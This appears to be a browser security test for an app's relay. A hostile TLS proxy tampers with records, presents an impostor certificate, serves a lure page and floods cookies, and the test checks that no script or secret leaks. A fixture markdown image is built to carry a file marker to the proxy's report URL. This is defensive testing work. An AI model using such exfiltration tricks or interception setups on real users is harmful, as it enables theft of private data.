// Issue 25's hostile relay in Chromium (RLY-6): a proxy at the relay's public TLS port, between
// the phone and the nodes, that does what a relay operator can do to a desktop's names: it flips
// bytes in TLS records, injects garbage (a script in the clear among it), replays records, resets
// connections, answers the handshake with a certificate of its own for the name, and answers
// plain HTTP on the relay's host with a malicious page. The browser itself keeps the proxy's
// script out of the app's and the previews' origins, and no byte of a marked file, output,
// message or preview reaches the proxy in plaintext.
import fs from 'node:fs';
import path from 'node:path';
import type { BrowserContext, Frame, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { routeHash } from '../../../lib/client/appRoute';
import {
  HOSTILE_MARKER,
  startHostileTlsProxy,
  type HostileMode,
  type HostileTlsProxy,
} from '../../fixtures/relay/hostileTlsProxy';
import { makeTestCertificates, type TestCertificates } from '../../fixtures/relay/testCertificates';
import { waitUntil } from '../../fixtures/waitUntil';
import {
  createShellSession,
  keepLightAndDark,
  PHONE_CONTEXT,
  sendCommand,
  waitCommandFinished,
  waitConnected,
} from '../appHarness';
import {
  startPassthroughAssembly,
  waitForCertificate,
  writePreviewSite,
  type PassthroughAssembly,
} from './passthroughAssembly';

/** Bounds of this file's waits, in one place. */
const TIMEOUTS = { test: 180_000, certificate: 120_000, step: 30_000, reconnect: 60_000 };
const FILE_MARKER = 'hostile-file-marker-ZP4Q8';
const MESSAGE_MARKER = 'hostile-message-marker-k7tnm';
/** The command upper-cases its message's marker: the output holds bytes the message does not. */
const OUTPUT_MARKER = MESSAGE_MARKER.toUpperCase();
const PREVIEW_MARKER = 'hostile-preview-marker-R2M6W';
const TAMPER_MODES: HostileMode[] = ['flip', 'inject', 'replay', 'reset'];

describe('RLY-6 a hostile relay between Chromium and the nodes runs no script in the app or a preview and reads no byte', () => {
  let proxy: HostileTlsProxy;
  let relay: PassthroughAssembly;
  let impostorCertificates: TestCertificates;
  let context: BrowserContext;
  let page: Page;

  /** `promise`, or a failure naming `what` after `ms` (a step of a page that would otherwise wait without end). */
  const within = <T>(ms: number, what: string, promise: Promise<T>): Promise<T> => {
    let timer: NodeJS.Timeout | undefined;
    const late = new Promise<never>(
      (_, reject) => (timer = setTimeout(() => reject(new Error(`${what}: no answer within ${ms} ms`)), ms)),
    );
    return Promise.race([promise, late]).finally(() => clearTimeout(timer));
  };
  /** The proxy's mark in an origin's storage, read from a page or frame of that origin. */
  const markIn = (where: Page | Frame) =>
    within(
      TIMEOUTS.step,
      `reading the mark in ${where.url()}`,
      where.evaluate((key) => localStorage.getItem(key), HOSTILE_MARKER),
    );

  async function previewFrame(): Promise<Frame> {
    await page.goto(
      `${relay.appOrigin}/${routeHash({ kind: 'preview', projectDirectory: relay.dirs.projectDirs[0]!, path: 'site/index.html' })}`,
    );
    const frame = await waitUntil(
      () =>
        page
          .frames()
          .find((f) => f.url().startsWith(`${relay.previewOrigin}/p-`) && f.url().endsWith('/site/index.html')),
      'the previewed page shows on the desktop’s preview name',
      TIMEOUTS.reconnect,
    );
    await frame.locator('#out').filter({ hasText: PREVIEW_MARKER }).waitFor({ timeout: TIMEOUTS.step });
    return frame;
  }

  beforeAll(async () => {
    proxy = await startHostileTlsProxy();
    relay = await startPassthroughAssembly({
      prepareProject: (dir) => {
        writePreviewSite(dir, PREVIEW_MARKER);
        fs.writeFileSync(path.join(dir, 'notes.txt'), `Private notes\n${FILE_MARKER}\n`);
        // An image that would carry a secret to the proxy if the app ever fetched it.
        fs.writeFileSync(
          path.join(dir, 'leak.md'),
          `# Leak\n\n![pixel](${proxy.reportOrigin}/report?origin=image-leak-${FILE_MARKER})\n`,
        );
      },
      // The proxy is the relay's public TLS port; the nodes' balancer is behind it.
      publicTlsPort: (balancer) => {
        proxy.setTarget(balancer.port);
        return Promise.resolve(proxy.port);
      },
    });
    await waitForCertificate(relay, TIMEOUTS.certificate);
    impostorCertificates = makeTestCertificates([
      new URL(relay.appOrigin).hostname,
      new URL(relay.previewOrigin).hostname,
    ]);
    context = await relay.browser.newContext(PHONE_CONTEXT);
    page = await context.newPage();
  }, 300_000);

  afterAll(async () => {
    await relay?.stop();
    await proxy?.close();
    impostorCertificates?.remove();
  }, TIMEOUTS.test);

  it(
    'RLY-6 through the proxy (forwarding for now) the phone pairs, reads a marked file, runs a command with a marked message and output, and opens a marked preview',
    async () => {
      await page.goto(relay.printedLink);
      await page.getByRole('button', { name: 'Pair', exact: true }).click();
      await waitConnected(page);
      await page.evaluate(() => navigator.serviceWorker.ready.then(() => true));
      await page.reload({ timeout: TIMEOUTS.step });
      await page.waitForFunction(() => navigator.serviceWorker.controller !== null);
      await waitConnected(page);
      await createShellSession(page);
      const command = `echo ${MESSAGE_MARKER} | tr a-z A-Z`;
      await sendCommand(page, command);
      expect(await waitCommandFinished(page, command, TIMEOUTS.step)).toBe('exit 0');
      await page.getByText(OUTPUT_MARKER, { exact: true }).waitFor({ timeout: TIMEOUTS.step });
      await page.goto(
        `${relay.appOrigin}/${routeHash({ kind: 'files', projectDirectory: relay.dirs.projectDirs[0]!, path: 'notes.txt' })}`,
      );
      await page.getByText(FILE_MARKER).first().waitFor({ timeout: TIMEOUTS.step });
      await keepLightAndDark(page, 'relay', 'passthrough-hostile-file-phone');
      await page.goto(
        `${relay.appOrigin}/${routeHash({ kind: 'files', projectDirectory: relay.dirs.projectDirs[0]!, path: 'leak.md' })}`,
      );
      // The app's content policy keeps the image's request from leaving (img-src 'self'): it settles unloaded.
      const image = page.locator('.markdown-view img[alt="pixel"]');
      await image.waitFor({ timeout: TIMEOUTS.step });
      await waitUntil(
        () => image.evaluate((img) => (img as HTMLImageElement).complete),
        'the image settles',
        TIMEOUTS.step,
      );
      expect(await image.evaluate((img) => (img as HTMLImageElement).naturalWidth)).toBe(0);
      expect(proxy.reports.filter((origin) => origin.includes(FILE_MARKER))).toEqual([]);
      await previewFrame();
      expect(proxy.tlsConnections.forward).toBeGreaterThan(0);
    },
    TIMEOUTS.test,
  );

  it(
    'RLY-6 flipped, injected, replayed and reset TLS records break only the connection: no script of the proxy runs, and the app reconnects once it forwards again',
    async () => {
      await page.goto(`${relay.appOrigin}/#/`);
      await waitConnected(page);
      const stranger = await (await relay.browser.newContext(PHONE_CONTEXT)).newPage();
      for (const mode of TAMPER_MODES) {
        const before = proxy.tlsConnections[mode];
        proxy.setMode(mode);
        // A browser with nothing cached gets nothing at all: the connection fails, nothing renders.
        await expect(stranger.goto(`${relay.appOrigin}/`), mode).rejects.toThrow(/net::ERR_/);
        // The paired phone: its live socket meets the mode on its next record, the reload opens new
        // connections; the installed worker serves the app's shell, and the app's socket retries.
        await page.reload({ timeout: TIMEOUTS.step });
        await waitUntil(
          () => proxy.tlsConnections[mode] >= before + 3,
          `the app retries its socket through the ${mode} proxy`,
          TIMEOUTS.step,
        );
        expect(await page.getByText('Connected', { exact: true }).count(), mode).toBe(0);
        expect(await markIn(page)).toBeNull();
        proxy.setMode('forward');
        await waitConnected(page);
        expect(await markIn(page)).toBeNull();
      }
      await stranger.context().close();
      expect(proxy.reports).toEqual([]);
    },
    TIMEOUTS.test,
  );

  it(
    'RLY-6 the proxy’s own certificate for the desktop’s name is refused; its plain-HTTP page runs only in its own origin',
    async () => {
      proxy.setMode('own-certificate', impostorCertificates);
      const fresh = await within(TIMEOUTS.step, 'a new context', relay.browser.newContext(PHONE_CONTEXT));
      try {
        const stranger = await within(TIMEOUTS.step, 'a new page', fresh.newPage());
        await expect(stranger.goto(`${relay.appOrigin}/`)).rejects.toThrow(/ERR_CERT_AUTHORITY_INVALID/);
        await expect(stranger.goto(`${relay.previewOrigin}/`)).rejects.toThrow(/ERR_CERT_AUTHORITY_INVALID/);
        // The paths the installed worker leaves to the network are navigations to the proxy too: refused.
        const probe = await within(TIMEOUTS.step, 'a probe page', context.newPage());
        for (const pathname of ['/healthz', '/rpc'])
          await expect(probe.goto(`${relay.appOrigin}${pathname}`), pathname).rejects.toThrow(
            /ERR_CERT_AUTHORITY_INVALID/,
          );
        // NOTE: the probe stays open until the context closes: closing a page left on Chromium's
        // certificate error page can wait without end.
        // The paired phone: its worker serves the genuine shell, and the app stays unconnected.
        await page.reload({ timeout: TIMEOUTS.step });
        await waitUntil(
          () => proxy.tlsConnections['own-certificate'] > 0,
          'Chromium meets the proxy’s certificate',
          TIMEOUTS.step,
        );
        await page.getByText('Connected', { exact: true }).waitFor({ state: 'detached', timeout: TIMEOUTS.step });
        expect(await markIn(page)).toBeNull();
        // A link the phone's person opens: plain HTTP on the relay's host and TLS port gets the
        // proxy's page, in an origin of its own.
        const plainOrigin = `http://${new URL(relay.appOrigin).host}`;
        const lure = await within(TIMEOUTS.step, 'a lure page', context.newPage());
        await lure.goto(`${plainOrigin}/`);
        await waitUntil(
          () => proxy.reports.includes(plainOrigin),
          'the proxy’s script reports from its own plain-HTTP origin',
          TIMEOUTS.step,
        );
        expect(await markIn(lure)).toBe(plainOrigin);
        await within(TIMEOUTS.step, 'closing the lure', lure.close());
        // Its cookies for the relay's domain now ride along to the desktop's names.
        expect((await context.cookies(relay.appOrigin)).length).toBeGreaterThan(10);
      } finally {
        await within(TIMEOUTS.step, 'closing the context', fresh.close());
      }
      proxy.setMode('forward');
      await page.reload({ timeout: TIMEOUTS.step });
      await waitConnected(page);
      expect(await markIn(page)).toBeNull();
      expect(await markIn(await previewFrame())).toBeNull();
      // The cookies cost nothing once the relay forwards again: the desktop's answers drop them (SEC-8).
      await waitUntil(
        async () => (await context.cookies(relay.appOrigin)).length === 0,
        'the flood of cookies is dropped',
        TIMEOUTS.step,
      );
      // The proxy's script ran where it served it in the clear, never in the app's or a preview's origin.
      expect(new Set(proxy.reports)).toEqual(new Set([`http://${new URL(relay.appOrigin).host}`]));
    },
    TIMEOUTS.test,
  );

  it(
    'RLY-6 no byte of the marked file, output, message or preview reached the proxy in plaintext',
    () => {
      const seen = proxy.seen();
      expect(seen.length).toBeGreaterThan(100_000);
      for (const marker of [FILE_MARKER, MESSAGE_MARKER, OUTPUT_MARKER, PREVIEW_MARKER])
        expect(seen.includes(Buffer.from(marker)), `${marker} seen by the proxy`).toBe(false);
      // The same search finds what the proxy does see in the clear: the desktop's name in each
      // handshake (SNI), and the plain-HTTP request.
      expect(seen.includes(Buffer.from(new URL(relay.appOrigin).hostname))).toBe(true);
      expect(seen.includes(Buffer.from('GET / HTTP/1.1'))).toBe(true);
    },
    TIMEOUTS.test,
  );
});
